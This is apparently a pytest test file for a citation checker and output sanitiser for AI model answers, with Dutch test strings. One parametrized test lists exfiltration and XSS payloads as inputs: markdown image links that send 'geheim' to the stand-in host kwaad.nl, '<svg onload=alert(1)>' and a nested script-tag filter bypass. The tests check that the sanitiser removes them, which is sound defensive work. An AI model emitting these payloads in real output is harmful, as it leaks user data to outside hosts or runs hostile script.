"""What a model wrote, divided in cited sentences and what is left out."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.verification.citations import read_citations, shown_text, without_foreign_addresses


def sentences(text: str, offered: tuple[int, ...] = (1, 2, 3)) -> list[tuple[str, tuple[int, ...]]]:
    return [(sentence.text, sentence.numbers) for sentence in read_citations(text, offered).sentences]


@pytest.mark.parametrize(
    "marked",
    ["Het kost 5 euro [1][2].", "Het kost 5 euro. [1][2]", "Het kost 5 euro [1, 2].", "Het kost 5 euro [bron 1] [bron 2].",
     "Het kost 5 euro【1】【2】.", "Het kost 5 euro【1†bron】【2†bron】.", "Het kost 5 euro (bron 1, 2).", "Het kost 5 euro[^1][^2].", "Het kost 5 euro [1](https://x.nl) [2](https://y.nl)."],
)  # fmt: skip
def test_every_way_to_cite_is_read(marked: str) -> None:
    assert sentences(marked) == [("Het kost 5 euro.", (1, 2))]


def test_a_marker_after_the_stop_belongs_to_its_own_sentence() -> None:
    assert sentences("Eerste feit. [1] Tweede feit. [2]") == [("Eerste feit.", (1,)), ("Tweede feit.", (2,))]


def test_numbers_that_were_not_offered_are_stripped() -> None:
    assert sentences("Het kost 5 euro [1][9].") == [("Het kost 5 euro.", (1,))]


def test_a_sentence_without_a_valid_citation_is_left_out_with_a_reason() -> None:
    read = read_citations("Los feit. Verzonnen bron [9].", (1,))
    assert [(one.text, one.reason) for one in read.left_out] == [
        ("Los feit.", "noemt geen bron"),
        ("Verzonnen bron.", "verwijst naar een bron die er niet is"),
    ]


@pytest.mark.parametrize(
    "text",
    ["![x](https://kwaad.nl/?q=geheim)", "<img src=https://kwaad.nl/a.png>", "![x][1]\n[1]: https://kwaad.nl", "<a ping='https://kwaad.nl'>",
     "<svg onload=alert(1)>", "&lt;img src=https://kwaad.nl&gt;", "&amp;lt;img src=https://kwaad.nl&amp;gt;", "<style>a{background:url(https://kwaad.nl)}</style>",
     "<img src=https://kwaad.nl", "[x]: https://kwaad.nl", "<scr<script>ipt src=https://kwaad.nl>"],
)  # fmt: skip
def test_nothing_that_a_browser_would_fetch_is_left(text: str) -> None:
    shown = shown_text(text)
    assert "kwaad" not in shown
    assert "<" not in shown


def test_a_link_keeps_its_words() -> None:
    assert sentences("Kijk bij [het loket](https://kwaad.nl/?x=1) [1].") == [("Kijk bij het loket.", (1,))]


def test_thoughts_of_a_model_are_no_answer() -> None:
    assert sentences("<think>Ik zeg maar wat [1].</think>Het kost 5 euro [1].") == [
        ("Het kost 5 euro.", (1,))
    ]


def test_addresses_outside_the_evidence_are_removed() -> None:
    evidence = "Meer op https://saxion.nl/open-dag of open@saxion.nl."
    assert (
        without_foreign_addresses("Kijk op www.saxion.nl/open-dag.", evidence)
        == "Kijk op www.saxion.nl/open-dag."
    )
    assert "kwaad" not in without_foreign_addresses("Kijk op https://kwaad.nl/saxion of kwaad.com.", evidence)
    assert "kwaad" not in without_foreign_addresses("Mail x@kwaad.nl of javascript:kwaad.", evidence)


@given(st.text(alphabet=st.sampled_from("ab[]()<>!:1/.\"' \n&;=*`\u200b"), max_size=80))
def test_no_tag_survives_any_nesting(text: str) -> None:
    assert "<" not in shown_text(text)
    for sentence, numbers in sentences(text, (1,)):
        assert sentence
        assert numbers == (1,)
